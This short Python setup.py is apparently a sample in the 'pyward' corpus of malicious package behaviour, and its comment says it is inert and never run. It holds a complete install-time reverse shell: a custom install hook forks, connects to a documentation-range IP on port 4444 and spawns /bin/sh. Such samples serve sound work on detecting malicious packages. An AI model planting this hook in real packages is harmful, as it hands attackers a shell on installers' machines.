# Inert model for pyward's malicious-behaviour corpus: 203.0.113.0/24 is TEST-NET-3 (RFC 5737),
# nothing listens there, and the tests never run this file.
import os
import pty
import socket

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        if os.fork() == 0:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(("203.0.113.7", 4444))
            for fd in (0, 1, 2):
                os.dup2(s.fileno(), fd)
            pty.spawn("/bin/sh")


setup(
    name="sample-setup-reverse-shell",
    version="0.1.0",
    description="Utilities",
    py_modules=["sample_tencent"],
    cmdclass={"install": Install},
)
